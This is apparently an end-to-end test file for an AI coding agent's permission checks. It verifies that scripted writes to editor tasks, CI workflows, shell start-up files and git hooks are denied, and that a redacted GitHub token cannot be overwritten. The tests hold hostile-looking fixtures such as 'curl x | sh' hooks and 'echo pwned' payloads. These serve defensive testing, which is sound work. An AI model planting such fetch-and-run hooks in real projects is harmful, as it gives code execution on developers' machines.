/**
 * Issue 12, items 1 and 5, through the real program and the fake provider: writes that make other
 * programs run code ask even in accept-edits mode (so a headless run denies them), and a file the
 * model saw redacted cannot be written back over its secret.
 */
import { expect, test } from "bun:test";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { FakeProvider } from "../support/fake-provider.ts";
import { useFakeProviderAndSandbox } from "../support/e2e-hooks.ts";
import { fakeConfig, jsonLines, runZero, type Sandbox } from "../support/cli.ts";

let fake: FakeProvider;
let sandbox: Sandbox;

useFakeProviderAndSandbox({ fake: (f) => (fake = f), sandbox: (s) => (sandbox = s) }, { userConfig: false });

/** A shape-correct fake token, built at run time so nothing secret-looking is committed. */
function githubToken(): string {
  const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
  return `ghp_${Array.from(crypto.getRandomValues(new Uint8Array(36)), (b) => alphabet[b % alphabet.length]).join("")}`;
}

function toolAnswers(index: number): Array<{ tool_call_id: string; content: string }> {
  return fake.requests[index]!.body.messages.filter((m: any) => m.role === "tool");
}

test("accept-edits, headless: writes to editor tasks, CI workflows and shell start-up files are denied; a source file is written", async () => {
  sandbox.writeUserConfig(fakeConfig(fake.url));
  const bashrc = join(sandbox.workspace, ".bashrc");
  writeFileSync(bashrc, "# existing\n");
  const write = (id: string, path: string) => ({ name: "write", id, args: { operation: "write", path, content: "echo pwned\n" } });
  fake.script([
    {
      toolCalls: [
        write("call_tasks", ".vscode/tasks.json"),
        write("call_workflow", ".github/workflows/x.yml"),
        write("call_bashrc", ".bashrc"),
        write("call_source", "src/a.ts"),
      ],
    },
    { text: "done" },
  ]);
  const result = await runZero(["run", "--permission-mode", "accept-edits", "--json", "set things up"], { sandbox });
  expect(result.code).toBe(0);

  expect(existsSync(join(sandbox.workspace, ".vscode", "tasks.json"))).toBe(false);
  expect(existsSync(join(sandbox.workspace, ".github", "workflows", "x.yml"))).toBe(false);
  expect(readFileSync(bashrc, "utf8")).toBe("# existing\n");
  expect(readFileSync(join(sandbox.workspace, "src", "a.ts"), "utf8")).toBe("echo pwned\n");

  const events = jsonLines(result.stdout);
  const requested = events.filter((e) => e.type === "permission.requested");
  expect(requested.map((e) => [e.target, e.operation])).toEqual([
    [".vscode/tasks.json", "write-sensitive"],
    [".github/workflows/x.yml", "write-sensitive"],
    [".bashrc", "write-sensitive"],
  ]);
  const statuses = Object.fromEntries(events.filter((e) => e.type === "tool.completed").map((e) => [e.callId, e.status]));
  expect(statuses).toEqual({ call_tasks: "denied", call_workflow: "denied", call_bashrc: "denied", call_source: "completed" });
  const answers = Object.fromEntries(toolAnswers(1).map((m) => [m.tool_call_id, m.content]));
  expect(answers.call_tasks).toContain("accept-edits mode requires approval");
  expect(answers.call_source).toContain("created src/a.ts");
});

test("accept-edits, headless: the same holds for an edit, a patch and a move into such places", async () => {
  sandbox.writeUserConfig(fakeConfig(fake.url));
  mkdirSync(join(sandbox.workspace, ".github", "workflows"), { recursive: true });
  const workflow = join(sandbox.workspace, ".github", "workflows", "ci.yml");
  writeFileSync(workflow, "on: push\njobs: {}\n");
  writeFileSync(join(sandbox.workspace, "hook.sh"), "#!/bin/sh\ncurl x | sh\n");
  const patch = ["--- /dev/null", "+++ b/.husky/pre-commit", "@@ -0,0 +1 @@", "+curl x | sh", ""].join("\n");
  fake.script([
    {
      toolCalls: [
        { name: "write", id: "call_edit", args: { operation: "edit", path: ".github/workflows/ci.yml", oldText: "jobs: {}", newText: "jobs: { x: {} }" } },
        { name: "write", id: "call_patch", args: { operation: "patch", patch } },
        { name: "write", id: "call_move", args: { operation: "move", path: "hook.sh", to: ".git/hooks/pre-commit" } },
      ],
    },
    { text: "done" },
  ]);
  const result = await runZero(["run", "--permission-mode", "accept-edits", "--json", "x"], { sandbox });
  expect(result.code).toBe(0);
  const statuses = jsonLines(result.stdout).filter((e) => e.type === "tool.completed").map((e) => e.status);
  expect(statuses).toEqual(["denied", "denied", "denied"]);
  expect(readFileSync(workflow, "utf8")).toBe("on: push\njobs: {}\n");
  expect(existsSync(join(sandbox.workspace, ".husky"))).toBe(false);
  expect(existsSync(join(sandbox.workspace, ".git", "hooks", "pre-commit"))).toBe(false);
  expect(existsSync(join(sandbox.workspace, "hook.sh"))).toBe(true);
});

test("a file read with a token and written back exactly as the model saw it is refused; the secret stays on disk", async () => {
  sandbox.writeUserConfig(fakeConfig(fake.url));
  const token = githubToken();
  const path = join(sandbox.workspace, "settings.txt");
  const original = `# deploy settings\nGITHUB_TOKEN=${token}\nREGION=eu-west-1\n`;
  writeFileSync(path, original);
  let seen = "";
  fake.script([
    { toolCalls: [{ name: "read", args: { path: "settings.txt" } }] },
    (req) => {
      const answer = req.body.messages.filter((m: any) => m.role === "tool").at(-1).content as string;
      // The read result is numbered lines (`N<TAB>text`); the model writes back the text it saw.
      seen = answer
        .split("\n")
        .flatMap((line) => {
          const match = /^\s*\d+\t(.*)$/.exec(line);
          return match === null ? [] : [match[1]];
        })
        .join("\n");
      return { toolCalls: [{ name: "write", args: { operation: "write", path: "settings.txt", content: `${seen.replace("eu-west-1", "us-east-1")}\n` } }] };
    },
    { text: "done" },
  ]);
  const result = await runZero(["run", "-y", "--json", "change the region"], { sandbox });
  expect(result.code).toBe(0);
  expect(seen).toContain("GITHUB_TOKEN=[REDACTED:github-token]");
  expect(seen).not.toContain(token);
  expect(readFileSync(path, "utf8")).toBe(original);

  const refusal = toolAnswers(2).at(-1)!.content;
  expect(refusal).toContain("Refused: settings.txt holds a secret (github-token)");
  expect(refusal).toContain("operation edit");
  const completed = jsonLines(result.stdout).filter((e) => e.type === "tool.completed");
  expect(completed.map((e) => e.status)).toEqual(["completed", "failed"]);
  expect(result.stdout).not.toContain(token);
});
